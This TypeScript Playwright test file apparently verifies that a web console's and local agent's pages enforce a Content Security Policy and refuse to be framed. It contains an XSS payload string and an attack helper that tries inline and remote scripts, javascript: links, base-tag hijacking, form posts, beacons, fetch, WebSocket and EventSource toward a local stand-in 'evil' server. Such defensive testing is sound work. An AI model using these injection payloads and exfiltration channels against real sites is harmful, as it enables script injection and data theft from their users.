import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type RunningAgent, startAgent } from '#main/headless.ts';
import { buildPages } from '#test/support/browser/built-pages.ts';
import { openPage, type WatchedPage } from '#test/support/browser/chromium.ts';
import { signIn, startConsole } from '#test/support/browser/console.ts';
import { describeInBrowser } from '#test/support/browser/describe-in-browser.ts';
import { linkedPackage } from '#test/support/service/download-link.ts';
import { newPortal } from '#test/support/service/portals.ts';
import type { TestService } from '#test/support/service/start-service.ts';
import { startHttpServer, type TestServer } from '#test/support/system/http-server.ts';
import { tempFolder } from '#test/support/system/temp-folder.ts';

/** What a browser itself refuses each page of ours, whatever had come into it: its policy, as Chromium enforces it. */

/** Texts of strangers that would be a script, if a page took them for one. */
const script = `"'><img src=x onerror="window.ran='text'"><script>window.ran='text'</script>\${window.ran='text'}`;

const pages = [
  ['the console', '/'],
  ['a page of the console, signed in', '/t/TEAM/packages'],
  ['the operator’s page', '/operator'],
  ['the sign-in page', '/sign-in'],
  ['a Portal', '/p/PORTAL'],
  ['a download page', 'LINK'],
  ['the page of an invitation', '/invitation'],
  ['the page of a new password', '/password'],
  ['the page of a new address', '/email'],
  ['the page that stops mails', '/unsubscribe'],
  ['the description of the API', '/docs'],
  ['a page that is none', '/nowhere-at-all'],
  ['the agent’s page', 'AGENT/'],
  ['the description of the agent’s API', 'AGENT/docs'],
] as const;

describeInBrowser('the policy of each page', (browserOf) => {
  let folder: Awaited<ReturnType<typeof tempFolder>>;
  let service: TestService;
  let agent: RunningAgent;
  let evil: TestServer;
  let known: Readonly<Record<string, string>>;

  beforeAll(async () => {
    folder = await tempFolder();
    const [{ folder: guiDir }, started] = await Promise.all([buildPages('renderer'), startConsole()]);
    service = started;
    agent = await startAgent({
      dataDir: join(folder.path, 'agent'),
      serviceUrl: service.url,
      listen: { host: '127.0.0.1', port: 0 },
      guiDir,
    });
    evil = await startHttpServer(({ url }, response) => {
      if (url?.startsWith('/frame?')) {
        const framed = new URL(url, 'http://x').searchParams.get('of')!;
        return void response.setHeader('content-type', 'text/html').end(`<!doctype html><iframe src="${framed}"></iframe>`);
      }
      response.setHeader('content-type', 'text/javascript').setHeader('access-control-allow-origin', '*').end('window.ran = "foreign";');
    });
    const portal = await newPortal(service, { name: script, message: script, primary_color: '#1f6feb' });
    const { link } = await linkedPackage(service, { 'a/b.txt': 'text' }, { package: { name: script, description: script } });
    known = { TEAM: service.teamId, PORTAL: portal.subdomain, LINK: link.url, AGENT: agent.url };
  });
  afterAll(async () => {
    await agent?.close();
    await service?.close();
    await evil?.close();
    await folder?.remove();
  });

  const addressOf = (place: string): string => {
    const path = place.replaceAll(/TEAM|PORTAL|LINK|AGENT/g, (name) => known[name]!);
    return path.startsWith('/') ? service.url + path : path;
  };
  const open = (address: string): Promise<WatchedPage> =>
    openPage(browserOf(), address, { viewport: { width: 1_000, height: 800 } }, async (page) => {
      await signIn(page, service, service.userId);
    });

  it.each(pages)('%s works by it, and runs and loads nothing else', async (_, place) => {
    const { page, complaints, close } = await open(addressOf(place));
    try {
      await page.locator('h1, h2').first().waitFor();
      expect(complaints.filter((text) => /Content.Security|violates|Refused/i.test(text))).toEqual([]);
      expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
      evil.requests.length = 0;
      const reached = await attack(page, evil.url);
      expect(reached).toEqual([]);
      expect(evil.requests).toEqual([]);
    } finally {
      await close();
    }
  });

  it('is what refuses that: a page without one lets all of it through', async () => {
    const { page, close } = await open(`${evil.url}/frame?of=about:blank`);
    try {
      evil.requests.length = 0;
      const reached = await attack(page, evil.url.replace('127.0.0.1', 'localhost'));
      expect(reached).toEqual(expect.arrayContaining(['base', 'fetch', 'import', 'worker']));
      expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeDefined();
      const wanted = ['script.js', 'picture', 'video', 'object', 'frame', 'embed', 'style.css', 'import.css', 'background', 'fetch'];
      const expected = [...wanted, 'module.js', 'events'].map((name) => `GET /${name}`);
      await expect.poll(() => evil.requests).toEqual(expect.arrayContaining([...expected, 'POST /form', 'POST /beacon']));
    } finally {
      await close();
    }
  });

  it('each is framed by no page of somebody else', async () => {
    for (const [, place] of [...pages, ['the frame of a mail', '/mail-frame'] as const]) {
      const { page, close } = await open(`${evil.url}/frame?of=${encodeURIComponent(addressOf(place))}`);
      try {
        await expect.poll(() => page.frames()[1]?.url(), { message: place }).toBe('chrome-error://chromewebdata/');
      } finally {
        await close();
      }
    }
  });
});

/** Tries what an injected text could; gives what came of it, by its name. */
async function attack(page: Page, foreign: string): Promise<readonly string[]> {
  return await page.evaluate(async (foreign) => {
    const own = window as { ran?: string };
    const reached: string[] = [];
    const add = (html: string): void => {
      const holder = document.createElement('div');
      holder.innerHTML = html;
      document.body.append(holder);
    };
    const element = (name: string, fields: Record<string, string>): void => {
      document.body.append(Object.assign(document.createElement(name), fields));
    };
    element('script', { textContent: 'window.ran = "inline script"' });
    add('<img src="data:x" onerror="window.ran = \'handler\'">');
    element('script', { src: `${foreign}/script.js` });
    element('script', { src: 'data:text/javascript,window.ran="data"' });
    element('script', { src: URL.createObjectURL(new Blob(['window.ran = "blob"'], { type: 'text/javascript' })) });
    add(`<a id="attack-link" href="javascript:void(window.ran='javascript address')">x</a>`);
    document.getElementById('attack-link')!.click();
    add(`<img src="${foreign}/picture"><video src="${foreign}/video"></video><object data="${foreign}/object"></object>`);
    add(`<iframe src="${foreign}/frame"></iframe><embed src="${foreign}/embed">`);
    add(`<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>`);
    element('link', { rel: 'stylesheet', href: `${foreign}/style.css` });
    element('style', { textContent: `@import url("${foreign}/import.css"); body { background: url("${foreign}/background") }` });
    element('base', { href: `${foreign}/` });
    if (document.baseURI.startsWith(foreign)) reached.push('base');
    // Into a frame: a page that let it go would be left before it is asked about the rest.
    add(`<iframe name="attack-frame"></iframe><form id="attack-form" target="attack-frame" action="${foreign}/form" method="post"></form>`);
    (document.getElementById('attack-form') as HTMLFormElement).submit();
    await fetch(`${foreign}/fetch`).then(
      () => reached.push('fetch'),
      () => undefined,
    );
    await import(/* @vite-ignore */ `${foreign}/module.js`).then(
      () => reached.push('import'),
      () => undefined,
    );
    navigator.sendBeacon(`${foreign}/beacon`);
    try {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      const ran = await new Promise<boolean>((resolve) => {
        worker.onmessage = () => resolve(true);
        worker.onerror = () => resolve(false);
      });
      if (ran) reached.push('worker');
    } catch {
      // Refused at once.
    }
    const socket = new WebSocket(foreign.replace('http', 'ws'));
    await new Promise((resolve) => {
      socket.onerror = socket.onopen = resolve;
    });
    new EventSource(`${foreign}/events`).onopen = () => reached.push('events');
    // All that was begun has had its turn: an allowed picture of our own comes behind them.
    const last = new Image();
    await new Promise((resolve) => {
      last.onload = last.onerror = resolve;
      last.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
    });
    if (own.ran !== undefined) reached.push(own.ran);
    return reached;
  }, foreign);
}
